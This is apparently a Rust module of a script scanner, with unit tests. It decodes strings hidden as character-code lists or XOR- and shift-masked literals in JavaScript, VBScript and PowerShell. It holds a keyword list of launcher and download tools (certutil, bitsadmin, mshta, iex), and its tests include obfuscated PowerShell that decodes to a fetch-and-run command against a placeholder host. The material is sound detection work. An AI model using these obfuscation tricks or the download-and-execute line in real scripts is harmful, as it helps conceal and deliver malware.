//! Texts written as a list of character codes, in an array or in a text that a loop takes apart.
//!
//! No specification: whatever the language, such a list is numbers with the same separator between them. Long lists
//! are read where all codes are printable; short and masked ones only in a script that makes characters of numbers,
//! by the masks that stand in it.

use memchr::memmem;

/// Codes of one list at the least.
const SHORTEST: usize = 16;

/// Lists of one script at the most.
const LISTS: usize = 32;

/// Bytes between two numbers at the most.
const GAP: usize = 12;

/// The texts, in the order of the source.
pub fn code_texts(source: &str) -> Vec<String> {
    let bytes = source.as_bytes();
    let mut found = Vec::new();
    let mut text = String::new();
    // What stood between the numbers of the list so far.
    let mut between: Option<&[u8]> = None;
    let mut at = 0usize;
    // Ends because each round goes over at least a byte.
    while let Some(skip) = digit(bytes, at) {
        at = at.saturating_add(skip);
        let rest = bytes.get(at..).unwrap_or_default();
        let (number, len) = number(rest);
        let end = at.saturating_add(len);
        let gap = gap(bytes.get(end..).unwrap_or_default());
        if let Some(c) = number.filter(|_| starts_number(bytes, at)) {
            text.push(c);
        } else {
            keep(&mut found, &mut text);
            between = None;
        }
        if gap.is_none() || between.is_some() && between != gap {
            keep(&mut found, &mut text);
        }
        between = gap.filter(|_| !text.is_empty());
        at = end.saturating_add(gap.map_or(0, <[u8]>::len));
    }
    keep(&mut found, &mut text);
    found
}

/// Codes of a list at the least, in a script that makes characters of numbers.
const FEW: usize = 4;

/// Numbers of one list, and masks of one script, at the most.
const NUMBERS: usize = 65_536;
const MASKS: usize = 8;

/// How a number becomes the code of a character.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mask {
    Plain,
    Xor(u32),
    Less(u32),
    More(u32),
}

/// The texts of lists of numbers, and of hexadecimal digits in quotes, in a script that makes characters of numbers
/// (`String.fromCharCode(k[i] ^ 85)`, `Chr(c - 1)`, `[char]($x -bxor 7)`): under the mask that gives the likeliest one.
pub fn masked_texts(source: &str) -> Vec<String> {
    let lower = source.to_ascii_lowercase();
    let masks = masks(&lower);
    if masks.is_empty() {
        return Vec::new();
    }
    let mut found: Vec<String> = Vec::new();
    for list in lists(&lower).into_iter().take(LISTS) {
        let texts = masks.iter().filter_map(|mask| unmasked(&list, *mask));
        let text = texts.max_by_key(|text| likeness(text));
        if let Some(text) = text.filter(|text| !found.contains(text)) {
            found.push(text);
        }
    }
    for text in shifted(source, &lower, &masks) {
        if !found.contains(&text) && found.len() < LISTS {
            found.push(text);
        }
    }
    found
}

/// Characters of a literal that was shifted or masked, at the least.
const SHIFTED: usize = 16;

/// What literals say whose characters the script takes one by one (`$s.ToCharArray()`, `s.charCodeAt(i)`) and changes
/// by a mask: where that is likelier a program than what is written.
fn shifted(source: &str, lower: &str, masks: &[Mask]) -> Vec<String> {
    let takes = [
        "tochararray(",
        "charcodeat(",
        "asc(mid",
        "ascw(mid",
        "[int][char]",
    ];
    let has = |take: &&str| memmem::find(lower.as_bytes(), take.as_bytes()).is_some();
    if !takes.iter().any(has) {
        return Vec::new();
    }
    let literals =
        between_quotes(source).filter(|text| text.len() >= SHIFTED && text.len() < NUMBERS);
    let mut found = Vec::new();
    let (mut all, mut turned) = (0usize, 0usize);
    for literal in literals.take(LISTS.saturating_mul(8)) {
        all = all.saturating_add(literal.len());
        let codes: Vec<u32> = literal.chars().map(u32::from).collect();
        let texts = masks.iter().filter(|mask| **mask != Mask::Plain);
        let texts = texts.filter_map(|mask| unmasked(&codes, *mask));
        let likeliest = texts.max_by_key(|text| likeness(text));
        let likelier = likeliest
            .filter(|text| text.contains([' ', '(']) && likeness(text) > likeness(literal));
        if let Some(text) = likelier {
            turned = turned.saturating_add(literal.len());
            found.push(text);
        }
    }
    // In a long script some words come out likelier by chance. One that hides itself hides a good part, or says a word
    // that only a program has.
    if turned < all / 4 {
        found.retain(|text| {
            let lower = text.to_ascii_lowercase();
            PROGRAM.iter().any(|word| lower.contains(word))
        });
    }
    found
}

/// Words of programs that chance does not make out of others.
const PROGRAM: &[&str] = &[
    "http",
    "eval",
    "shell",
    "script",
    "function",
    "object",
    "invoke",
    "return",
    "document",
    ".exe",
    "cmd ",
    "cmd.",
    "iex(",
    "iex ",
    "iwr ",
    "curl ",
    "mshta",
    "rundll",
    "regsvr",
    "certutil",
    "bitsadmin",
    "msiexec",
    "start-",
];

/// How many characters of a text are those that programs are mostly made of.
fn likeness(text: &str) -> usize {
    let usual = |byte: &u8| byte.is_ascii_alphanumeric() || b" .()=;\"'".contains(byte);
    text.as_bytes().iter().filter(|byte| usual(byte)).count()
}

/// What numbers say under a mask; nothing where it is no text.
fn unmasked(list: &[u32], mask: Mask) -> Option<String> {
    let text: Option<String> = list
        .iter()
        .map(|number| {
            let code = match mask {
                Mask::Plain => *number,
                Mask::Xor(key) => *number ^ key,
                Mask::Less(key) => number.checked_sub(key)?,
                Mask::More(key) => number.checked_add(key)?,
            };
            char::from_u32(code).filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n'))
        })
        .collect();
    let text = text?;
    let letters = text.bytes().filter(u8::is_ascii_alphabetic).count();
    (letters.saturating_mul(2) >= text.len()).then_some(text)
}

/// The masks of a script in lower case: what stands with a number behind each place where characters are made, the
/// plain codes first.
fn masks(lower: &str) -> Vec<Mask> {
    const MAKERS: [&str; 5] = ["fromcharcode(", "chr(", "chrw(", "[char]", "fromcodepoint("];
    let mut masks = Vec::new();
    for maker in MAKERS {
        for at in memmem::find_iter(lower.as_bytes(), maker).take(32) {
            let start = at.saturating_add(maker.len());
            let rest = lower.get(start..).unwrap_or_default();
            let rest = rest.lines().next().unwrap_or_default();
            let rest = rest
                .get(..rest.floor_char_boundary(120))
                .unwrap_or_default();
            // Of a number alone, and of a list of them, the readers of expressions tell.
            let first = rest.trim_start_matches(|c: char| c == '(' || c.is_whitespace());
            if first.starts_with(|c: char| c.is_ascii_digit()) {
                continue;
            }
            for mask in std::iter::once(Mask::Plain).chain(operations(rest)) {
                if !masks.contains(&mask) && masks.len() < MASKS {
                    masks.push(mask);
                }
            }
        }
    }
    // Masks are often put into a name first: `$k = 0x55`, `key = 7`.
    if !masks.is_empty() && (lower.contains('^') || lower.contains("xor")) {
        for number in assigned(lower) {
            let mask = Mask::Xor(number);
            if !masks.contains(&mask) && masks.len() < MASKS.saturating_mul(2) {
                masks.push(mask);
            }
        }
    }
    masks
}

/// Numbers from 1 to 255 that a name is given in a line.
fn assigned(lower: &str) -> Vec<u32> {
    let lines = lower.split(['\n', ';']).filter_map(|line| {
        let (name, value) = line.split_once('=')?;
        let value = value.trim();
        let bare = name.trim().len() < 40 && value.len() < 8;
        let number = bare.then(|| whole_number(value))??;
        (1..=255).contains(&number).then_some(number)
    });
    lines.take(MASKS).collect()
}

fn whole_number(text: &str) -> Option<u32> {
    let hex = text.strip_prefix("0x").or_else(|| text.strip_prefix("&h"));
    match hex {
        Some(digits) => u32::from_str_radix(digits, 16).ok(),
        None => text.parse().ok(),
    }
}

/// What a number behind an operator makes.
type Operator = fn(u32) -> Mask;

/// The operators with a number behind them in a piece of an expression.
fn operations(text: &str) -> Vec<Mask> {
    let mut found = Vec::new();
    let operators: [(&str, Operator); 5] = [
        ("^", Mask::Xor),
        ("-bxor", Mask::Xor),
        (" xor", Mask::Xor),
        ("-", Mask::Less),
        ("+", Mask::More),
    ];
    for (operator, mask) in operators {
        for (at, _) in text.match_indices(operator) {
            let behind = text
                .get(at.saturating_add(operator.len())..)
                .unwrap_or_default()
                .trim_start();
            let len = behind
                .bytes()
                .take(6)
                .take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'&')
                .count();
            let number = behind.get(..len).and_then(whole_number);
            if let Some(number) = number.filter(|number| *number > 0) {
                found.push(mask(number));
            }
        }
    }
    found
}

/// Lists of numbers with the same separator, and runs of hexadecimal digits in quotes as numbers of two digits each.
fn lists(lower: &str) -> Vec<Vec<u32>> {
    let bytes = lower.as_bytes();
    let mut found = Vec::new();
    let mut list = Vec::new();
    let mut between: Option<&[u8]> = None;
    let mut at = 0usize;
    // Ends because each round goes over at least a byte.
    while let Some(skip) = digit(bytes, at) {
        at = at.saturating_add(skip);
        let rest = bytes.get(at..).unwrap_or_default();
        let len = rest
            .iter()
            .take(8)
            .take_while(|byte| byte.is_ascii_alphanumeric())
            .count()
            .max(1);
        let number = rest
            .get(..len)
            .and_then(|digits| std::str::from_utf8(digits).ok())
            .and_then(whole_number)
            .filter(|number| *number < 0x1_0000 && starts_number(bytes, at));
        let end = at.saturating_add(len);
        let gap = gap(bytes.get(end..).unwrap_or_default());
        let goes_on = number.is_some() && (list.is_empty() || between.is_some());
        if let Some(number) = number.filter(|_| goes_on && list.len() < NUMBERS) {
            list.push(number);
        }
        let same = gap.is_some() && (list.len() < 2 || gap == between);
        if number.is_none() || !same {
            if list.len() >= FEW && found.len() < LISTS {
                found.push(std::mem::take(&mut list));
            }
            list.clear();
        }
        between = gap.filter(|_| !list.is_empty());
        at = end.saturating_add(gap.map_or(0, <[u8]>::len));
    }
    let digits = between_quotes(lower).filter(|text| {
        text.len() >= FEW.saturating_mul(2)
            && text.len() < NUMBERS
            && text.len().is_multiple_of(2)
            && text.bytes().all(|byte| byte.is_ascii_hexdigit())
    });
    for text in digits.take(LISTS) {
        let pairs = text.as_bytes().as_chunks::<2>().0.iter();
        let numbers = pairs.filter_map(|pair| {
            let pair = std::str::from_utf8(pair).ok()?;
            u32::from_str_radix(pair, 16).ok()
        });
        found.push(numbers.collect());
    }
    found
}

/// How far the next digit is from `at`.
fn digit(bytes: &[u8], at: usize) -> Option<usize> {
    bytes.get(at..)?.iter().position(u8::is_ascii_digit)
}

/// What stands in front of, between and behind quotes of either kind.
pub(super) fn between_quotes(text: &str) -> impl Iterator<Item = &str> {
    let mut marks = memchr::memchr2_iter(b'"', b'\'', text.as_bytes());
    let mut start = Some(0usize);
    std::iter::from_fn(move || {
        let from = start?;
        let mark = marks.next();
        start = mark.map(|mark| mark.saturating_add(1));
        text.get(from..mark.unwrap_or(text.len()))
    })
}

fn keep(found: &mut Vec<String>, text: &mut String) {
    let letters = text.bytes().filter(u8::is_ascii_alphabetic).count();
    if text.len() >= SHORTEST && letters.saturating_mul(2) >= text.len() && found.len() < LISTS {
        found.push(std::mem::take(text));
    }
    text.clear();
}

/// Whether a number starts here and no piece of a name.
fn starts_number(bytes: &[u8], at: usize) -> bool {
    let before = at.checked_sub(1).and_then(|before| bytes.get(before));
    !before.is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
}

/// The character of a number in decimal or hexadecimal digits, and the bytes that it takes.
fn number(rest: &[u8]) -> (Option<char>, usize) {
    let hex = rest.starts_with(b"0x") || rest.starts_with(b"0X");
    let skip = if hex { 2 } else { 0 };
    let digits = rest.get(skip..).unwrap_or_default();
    let len = digits
        .iter()
        .take(8)
        .take_while(|byte| byte.is_ascii_hexdigit() && (hex || byte.is_ascii_digit()))
        .count();
    let code = digits
        .get(..len)
        .and_then(|digits| std::str::from_utf8(digits).ok())
        .and_then(|digits| u8::from_str_radix(digits, if hex { 16 } else { 10 }).ok());
    let plain = |code: &u8| matches!(code, b' '..=b'~' | b'\t' | b'\r' | b'\n');
    let taken = skip.saturating_add(len).max(1);
    (code.filter(plain).map(char::from), taken)
}

/// What stands in front of the next number: signs and blanks alone, and the next number behind them.
fn gap(rest: &[u8]) -> Option<&[u8]> {
    let len = rest
        .iter()
        .take(GAP.saturating_add(1))
        .take_while(|byte| !byte.is_ascii_alphanumeric() && byte.is_ascii())
        .count();
    let next = rest.get(len).is_some_and(u8::is_ascii_digit);
    rest.get(..len).filter(|gap| next && !gap.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_and_masked_lists_are_read_where_characters_are_made_of_numbers() {
        for source in [
            "var k = [52,57,48,39,33];for(i in k) r += String.fromCharCode(k[i] ^ 85);",
            "k = '3439302721'; r += String.fromCharCode(parseInt(k.substr(i, 2), 16) ^ 85);",
            "For Each c In Array(98,109,102,115,117)\r\ns = s & Chr(c - 1)\r\nNext",
            "$b = 0x34,0x39,0x30,0x27,0x21\n$k = 0x55\nforeach ($x in $b) { $r += [char]($x -bxor $k) }",
            "var k = [97,108,101,114,116]; for (i in k) r += String.fromCharCode(k[i]);",
        ] {
            assert_eq!(masked_texts(source), ["alert"], "{source}");
        }
        let shifted: String = "iex (irm http://h.example/a)"
            .bytes()
            .map(|byte| char::from(byte + 3))
            .collect();
        let source = format!(
            "$s='{shifted}';foreach($c in $s.ToCharArray()){{$o+=[char]([int]$c-3)}};iex $o"
        );
        assert_eq!(masked_texts(&source), ["iex (irm http://h.example/a)"]);
        // Texts beside it hide no command.
        let command: String = "rundll32 user.dat Run"
            .bytes()
            .map(|byte| char::from(byte + 3))
            .collect();
        let others = "$a='an ordinary text of which there are many';".repeat(20);
        let source = format!(
            "{others}$s='{command}';foreach($c in $s.ToCharArray()){{$o+=[char]([int]$c-3)}};iex $o"
        );
        assert_eq!(masked_texts(&source), ["rundll32 user.dat Run"]);
        for source in [
            concat!(
                "k = s.charCodeAt(i) ^ 1; eval(x); a('dgkl`Zhlkl(alccZbpqq`wZjqm`w'); ",
                "b('the first of many ordinary texts of a library', 'the second one of them, which is longer', ",
                "'and a third, so that most of what stands here is what it is'); c.push(d.length); e.push(f.length);"
            ),
            "$s='An ordinary text of a script';foreach($c in $s.ToCharArray()){$o+=[char]([int]$c-3)}",
            "var k = [97,108,101,114,116]; r = k.map(double);",
            "r = String.fromCharCode(97, 108, 101, 114, 116);",
            "var t = [1,2,3,4,5]; s = String.fromCharCode(c);",
        ] {
            assert_eq!(masked_texts(source), Vec::<String>::new(), "{source}");
        }
    }

    #[test]
    fn lists_of_codes_are_read_whatever_separates_them() {
        let text = "WScript.Echo(\"it is\")";
        for between in [",", " ", ", ", "|", "~"] {
            let codes: Vec<String> = text.bytes().map(|byte| byte.to_string()).collect();
            let source = format!("x = [{}] y = 1", codes.join(between));
            assert_eq!(code_texts(&source), [text], "{between}");
        }
        let codes: Vec<String> = text.bytes().map(|byte| format!("0x{byte:02X}")).collect();
        assert_eq!(code_texts(&codes.join(", ")), [text]);
    }

    #[test]
    fn what_stands_between_quotes_is_told_in_order() {
        let pieces = |text| between_quotes(text).collect::<Vec<_>>();
        assert_eq!(pieces("a\"b'\u{3042}''c"), ["a", "b", "\u{3042}", "", "c"]);
        assert_eq!(pieces(""), [""]);
    }

    #[test]
    fn other_numbers_are_no_text() {
        for source in [
            "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20",
            "a = [200, 201, 202, 203, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 214, 215, 216]",
            "40,41,42,43,44,45,46,47,48,49,50,51,52,53,54,55,56,57,58,59,60",
            "72 101, 108 108; 111 44, 32 119; 111 114, 108 100; 33",
            "",
        ] {
            assert_eq!(code_texts(source), Vec::<String>::new(), "{source}");
        }
    }
}
